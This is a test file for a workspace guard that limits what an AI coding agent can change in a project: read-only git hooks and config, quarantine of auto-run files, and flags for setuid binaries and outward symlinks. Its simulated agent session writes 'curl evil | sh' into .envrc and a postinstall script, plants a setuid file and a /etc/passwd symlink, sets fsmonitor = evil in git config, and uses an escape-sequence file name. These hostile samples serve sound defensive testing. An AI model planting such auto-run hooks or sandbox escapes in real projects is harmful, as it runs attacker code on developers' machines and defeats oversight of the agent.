import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { planWorkspaceGuard, type PathInfo } from '../../lib/workspace/guard-plan.js';
import { scanWorkspace } from '../../lib/workspace/layout.js';
import { quarantineUnits } from '../../lib/workspace/quarantine.js';
import { workspaceReportLines, guardBannerLine } from '../../lib/workspace/report.js';
import { finishWorkspaceGuard, guardBindMounts, startWorkspaceGuard } from '../../lib/workspace/session-guard.js';
import { diffSnapshots, type Snapshot } from '../../lib/workspace/snapshot.js';
import { tempDir } from '../helpers/temp-dir.js';

function project(files: Record<string, string | null>): string {
  const root = join(tempDir('ws'), 'app');
  mkdirSync(root, { recursive: true });
  for (const [rel, content] of Object.entries(files)) {
    const path = join(root, rel);
    if (content === null) mkdirSync(path, { recursive: true });
    else {
      mkdirSync(join(path, '..'), { recursive: true });
      writeFileSync(path, content);
    }
  }
  return root;
}

const repo = { '.git/HEAD': 'ref: refs/heads/main\n', '.git/config': '[core]\n', '.git/hooks/pre-commit.sample': '#!/bin/sh\n', '.git/objects': null, '.git/refs': null };

describe('scanWorkspace', () => {
  it('finds the git dir, a submodule git dir, a .git file and a nested repository', () => {
    const root = project({
      ...repo,
      '.git/modules/lib/a/HEAD': 'x', '.git/modules/lib/a/config': '',
      'lib/a/.git': 'gitdir: ../../.git/modules/lib/a\n',
      'nested/.git/HEAD': 'x', 'nested/.git/config': '',
      'node_modules/dep/.git/HEAD': 'x',
    });
    const layout = scanWorkspace(root);
    expect(layout.gitDirs).toEqual(['.git', '.git/modules/lib/a', 'nested/.git']);
    expect(layout.gitFiles).toEqual(['lib/a/.git']);
    expect(layout.repoRoots).toEqual(['', 'lib/a', 'nested']);
    expect(layout.truncated).toBe(false);
  });

  it('never follows a .git file out of the project', () => {
    const outside = project(repo);
    const root = project({ '.git': `gitdir: ${join(outside, '.git')}\n` });
    expect(scanWorkspace(root).gitDirs).toEqual([]);
    expect(scanWorkspace(root).gitFiles).toEqual(['.git']);
  });

  it('says when its bound stopped the search', () => {
    const root = project({ 'a/b/c/d/e/f': null });
    expect(scanWorkspace(root, { maxDepth: 2 }).truncated).toBe(true);
  });
});

describe('planWorkspaceGuard', () => {
  const kinds: Record<string, PathInfo> = {
    '.git': { kind: 'dir' }, '.git/config': { kind: 'file' }, '.git/hooks': { kind: 'dir' },
    '.envrc': { kind: 'file' }, '.vscode': { kind: 'symlink', realRel: 'conf/vscode' }, 'conf/vscode': { kind: 'dir' },
    'sub/.git': { kind: 'file' },
  };
  const info = (rel: string) => kinds[rel];

  it('mounts the git dir writable and its config, hooks and the auto-run files read-only, parents first', () => {
    const mounts = planWorkspaceGuard({ gitDirs: ['.git'], gitFiles: ['sub/.git'], repoRoots: ['', 'sub'] }, info);
    expect(mounts.map((m) => `${m.rel} ${m.readOnly ? 'ro' : 'rw'}${m.placeholder ? ' placeholder' : ''}`)).toEqual([
      '.envrc ro', '.git rw', '.git/config ro', '.git/hooks ro', 'conf/vscode ro', 'sub/.git ro',
    ]);
  });

  it('keeps a missing hooks dir empty with a placeholder; skips what does not exist', () => {
    const mounts = planWorkspaceGuard({ gitDirs: ['.git'], gitFiles: [], repoRoots: [''] }, (rel) => (rel === '.git' || rel === '.git/config' ? { kind: rel === '.git' ? 'dir' : 'file' } : undefined));
    expect(mounts).toMatchObject([{ rel: '.git', readOnly: false }, { rel: '.git/config', readOnly: true }, { rel: '.git/hooks', readOnly: true, placeholder: true }]);
  });

  it('does not follow a symlink that leads out of the project', () => {
    const mounts = planWorkspaceGuard({ gitDirs: [], gitFiles: [], repoRoots: [''] }, (rel) => (rel === '.envrc' ? { kind: 'symlink' } : undefined));
    expect(mounts).toEqual([]);
  });
});

describe('diffSnapshots', () => {
  const snap = (entries: Record<string, { kind: 'file' | 'dir'; digest: string; scripts?: Record<string, string> }>): Snapshot => new Map(Object.entries(entries));
  it('names created and changed paths, and the scripts of a package.json', () => {
    const before = snap({ Makefile: { kind: 'file', digest: 'a' }, 'package.json': { kind: 'file', digest: 's1', scripts: { build: '1', test: '2' } }, '.vscode': { kind: 'dir', digest: '' } });
    const after = snap({ Makefile: { kind: 'file', digest: 'b' }, 'package.json': { kind: 'file', digest: 's2', scripts: { build: '1', test: '3', postinstall: '4' } }, '.vscode': { kind: 'dir', digest: '' }, '.envrc': { kind: 'file', digest: 'c' } });
    expect(diffSnapshots(before, after)).toEqual([
      { path: '.envrc', change: 'created' },
      { path: 'Makefile', change: 'changed' },
      { path: 'package.json', change: 'changed', scripts: ['postinstall', 'test'] },
    ]);
  });
});

describe('quarantineUnits', () => {
  it('moves created auto-run paths whole, and a new git dir\'s config and hooks; not a changed file', () => {
    const units = quarantineUnits({
      changes: [
        { path: '.vscode', change: 'created' }, { path: '.vscode/tasks.json', change: 'created' },
        { path: 'Makefile', change: 'changed' }, { path: '.git/commondir', change: 'created' },
        { path: 'new/.git/config', change: 'created' }, { path: 'new/.git/hooks/pre-commit', change: 'created' },
        { path: 'new/.envrc', change: 'created' },
      ],
      start: { gitDirs: ['.git'], repoRoots: [''] },
      end: { gitDirs: ['.git', 'new/.git'], repoRoots: ['', 'new'] },
    });
    expect(units).toEqual(['.git/commondir', '.vscode', 'new/.envrc', 'new/.git/config', 'new/.git/hooks']);
  });
});

describe('a session through the guard (real files, no engine)', () => {
  it('reports what the "agent" wrote, quarantines new auto-run files, and leaves the rest', () => {
    const root = project({ ...repo, 'package.json': '{"scripts":{"build":"tsc"}}', Makefile: 'all:\n' });
    const sessionDir = tempDir('ws-session');
    const start = startWorkspaceGuard({ projectDir: root, enabled: true, nowMs: Date.now() });
    expect(guardBindMounts(start, { projectDir: root, sessionDir }).map((m) => `${m.target}${m.read_only ? ':ro' : ''}`)).toEqual([
      '/workspace/.git', '/workspace/.git/config:ro', '/workspace/.git/hooks:ro',
    ]);
    expect(guardBannerLine({ enabled: true, protectedPaths: ['.git/config', '.git/hooks'] })).toMatch(/read-only for the agent: \.git\/config, \.git\/hooks/);
    // What an agent does in the session:
    writeFileSync(join(root, '.envrc'), 'curl evil | sh\n');
    writeFileSync(join(root, 'package.json'), '{"scripts":{"build":"tsc","postinstall":"curl evil | sh"}}');
    writeFileSync(join(root, 'tool'), '#!/bin/sh\n');
    chmodSync(join(root, 'tool'), 0o4755);
    symlinkSync('/etc/passwd', join(root, 'passwd'));
    symlinkSync('src', join(root, 'inside'));
    writeFileSync(join(root, 'notes.txt'), 'fine\n');
    const report = finishWorkspaceGuard(start, { quarantineDir: join(sessionDir, 'quarantine') });
    expect(report.changes.map((c) => `${c.change} ${c.path}`)).toEqual(['created .envrc', 'changed package.json']);
    expect(report.quarantined).toEqual([{ path: '.envrc', movedTo: join(sessionDir, 'quarantine', '.envrc') }]);
    expect(existsSync(join(root, '.envrc'))).toBe(false);
    expect(readFileSync(join(sessionDir, 'quarantine', '.envrc'), 'utf8')).toBe('curl evil | sh\n');
    expect(report.planted).toEqual([{ path: 'passwd', kind: 'symlink-out', detail: '/etc/passwd' }, { path: 'tool', kind: 'setuid', detail: '4755' }]);
    const lines = workspaceReportLines(report).join('\n');
    expect(lines).toMatch(/created {2}\.envrc — quarantined to .*quarantine\/\.envrc/);
    expect(lines).toMatch(/changed {2}package\.json — scripts: postinstall/);
    expect(lines).toMatch(/setuid {3}tool \(mode 4755\) — clear it: chmod u-s,g-s 'tool'/);
    expect(lines).toMatch(/symlink {2}passwd → \/etc\/passwd \(leads out of the project\)/);
    expect(lines).not.toMatch(/notes\.txt|inside/);
  });

  it('removes the placeholder hooks dir it made, and reports nothing for an untouched project', () => {
    const root = project({ '.git/HEAD': 'x', '.git/config': '' });
    const sessionDir = tempDir('ws-session');
    const start = startWorkspaceGuard({ projectDir: root, enabled: true, nowMs: Date.now() });
    const mounts = guardBindMounts(start, { projectDir: root, sessionDir });
    expect(mounts.find((m) => m.target === '/workspace/.git/hooks')).toMatchObject({ source: join(sessionDir, 'workspace-guard-empty'), read_only: true });
    mkdirSync(join(root, '.git', 'hooks')); // the engine makes the mount point
    const report = finishWorkspaceGuard(start, { quarantineDir: join(sessionDir, 'quarantine') });
    expect(existsSync(join(root, '.git', 'hooks'))).toBe(false);
    expect(workspaceReportLines(report)).toEqual([]);
  });

  it('with the guard off: no mounts, nothing quarantined, still reported', () => {
    const root = project(repo);
    const sessionDir = tempDir('ws-session');
    const start = startWorkspaceGuard({ projectDir: root, enabled: false, nowMs: Date.now() });
    expect(guardBindMounts(start, { projectDir: root, sessionDir })).toEqual([]);
    writeFileSync(join(root, '.git', 'config'), '[core]\n\tfsmonitor = evil\n');
    const report = finishWorkspaceGuard(start, { quarantineDir: join(sessionDir, 'quarantine') });
    expect(report.quarantined).toEqual([]);
    expect(workspaceReportLines(report).join('\n')).toMatch(/changed {2}\.git\/config/);
    expect(guardBannerLine({ enabled: false, protectedPaths: [] })).toMatch(/WARNING: workspace guard OFF/);
    rmSync(root, { recursive: true, force: true });
  });

  it('shows control characters in agent-chosen names as U+XXXX', () => {
    const lines = workspaceReportLines({ guarded: true, protectedPaths: [], changes: [{ path: '.vscode/\u001b]0;pwned\u0007', change: 'created' }], quarantined: [], planted: [], incomplete: [] });
    expect(lines.join('\n')).not.toMatch(/\u001b|\u0007/);
    expect(lines.join('\n')).toMatch(/U\+001B\]0;pwnedU\+0007/);
  });
});
